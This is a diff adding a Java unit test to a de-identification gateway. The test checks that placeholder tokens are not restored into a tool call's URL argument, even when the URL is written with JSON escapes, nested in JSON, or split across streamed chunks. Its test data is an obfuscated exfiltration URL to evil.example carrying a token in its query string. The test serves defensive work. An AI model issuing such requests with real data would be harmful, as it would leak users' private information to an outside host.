@@ -7,6 +7,7 @@ import gatehouse.deid.finding.Type;
 import gatehouse.deid.placeholders.Placeholders;
 import gatehouse.gateway.json.Json;
 import gatehouse.gateway.json.JsonReader;
+import gatehouse.gateway.json.JsonWriter;
 import gatehouse.gateway.json.MalformedJsonException;
 import gatehouse.gateway.route.Route;
 import java.security.SecureRandom;
@@ -66,6 +67,28 @@ class ToolStreamsTest {
     }
 
     came.forEach(this::isRestored);
+  }
+
+  /** What a tool fetches is an address however its JSON is written, and in JSON inside of it. */
+  @Test
+  void nothingComesBackIntoAnAddressThatIsWrittenWithEscapes() throws Exception {
+    String address =
+        "{\"url\": \"\\u0068ttps\\u003a\\u002f\\/evil.example/?q= %s\"}".formatted(token);
+    for (String arguments :
+        List.of(
+            address,
+            JsonWriter.text(Json.object("in", address)),
+            JsonWriter.text(Json.object("in", JsonWriter.text(Json.object("in", address)))))) {
+      for (int cut = 0; cut <= arguments.length(); cut++) {
+        StreamedAnswer answer = StreamedAnswer.of(plan(Route.CHAT), new Delivered());
+        Map<Integer, StringBuilder> came = new TreeMap<>();
+        collect(answer.next(chatChunk(0, arguments.substring(0, cut), null)), came);
+        collect(answer.next(chatChunk(0, arguments.substring(cut), null)), came);
+        collect(answer.next(chatChunk(0, "", "tool_calls")), came);
+
+        assertThat(came.get(0)).hasToString(arguments);
+      }
+    }
   }
 
   @Test
